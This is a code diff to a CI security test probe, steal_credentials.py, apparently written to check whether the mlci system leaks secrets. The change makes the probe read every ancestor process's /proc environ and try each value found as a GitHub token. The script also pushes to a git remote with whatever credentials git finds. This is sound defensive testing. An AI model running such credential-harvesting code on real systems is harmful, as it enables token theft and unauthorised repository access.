@@ -2,10 +2,11 @@
 
 Usage: steal_credentials.py RESULT_JSON API_URL REPO SHA GIT_URL
 
-It records its whole environment and `git config --list --show-origin`, then tries every value
-it found (as is, and base64-decoded, and after "basic "/"token "/"Bearer ") as a GitHub token
-on the API (setting a commit status) and pushes a branch to GIT_URL with whatever git finds
-configured. It always exits 0, so only its findings decide the test.
+It records its whole environment, the environment of every process above it (readable in
+/proc/<pid>/environ by any process of the same user: mlci's own among them) and `git config
+--list --show-origin`, then tries every word it found (as is, and base64-decoded) as a GitHub
+token on the API (setting a commit status) and pushes a branch to GIT_URL with whatever git
+finds configured. It always exits 0, so only its findings decide the test.
 """
 
 from __future__ import annotations
@@ -51,8 +52,25 @@ def try_api(api: str, repo: str, sha: str, token: str) -> int:
         return 0
 
 
+def ancestors_environ() -> dict[int, str]:
+    """What /proc/<pid>/environ shows of each process above this one (Linux)."""
+    found: dict[int, str] = {}
+    pid = os.getppid()
+    while pid > 1 and pid not in found:
+        try:
+            with open(f"/proc/{pid}/environ", "rb") as source:
+                found[pid] = source.read().decode("utf-8", "replace").replace("\0", "\n")
+            with open(f"/proc/{pid}/stat", "rb") as source:
+                stat = source.read()
+        except OSError:
+            break
+        pid = int(stat[stat.rindex(b")") + 2 :].split()[1])
+    return found
+
+
 def main(result: str, api: str, repo: str, sha: str, git_url: str) -> int:
     env = dict(os.environ)
+    ancestors = ancestors_environ()
     config = subprocess.run(
         ["git", "config", "--list", "--show-origin"], capture_output=True, text=True
     ).stdout
@@ -63,12 +81,13 @@ def main(result: str, api: str, repo: str, sha: str, git_url: str) -> int:
         env={**env, "GIT_TERMINAL_PROMPT": "0"},
         stdin=subprocess.DEVNULL,
     )
-    tokens = sorted(candidates([*env.values(), config]))
+    tokens = sorted(candidates([*env.values(), config, *ancestors.values()]))
     statuses = {token: try_api(api, repo, sha, token) for token in tokens}
     with open(result, "w", encoding="utf-8") as out:
         json.dump(
             {
                 "env": env,
+                "ancestors": ancestors,
                 "git_config": config,
                 "push_code": push.returncode,
                 "push_stderr": push.stderr,
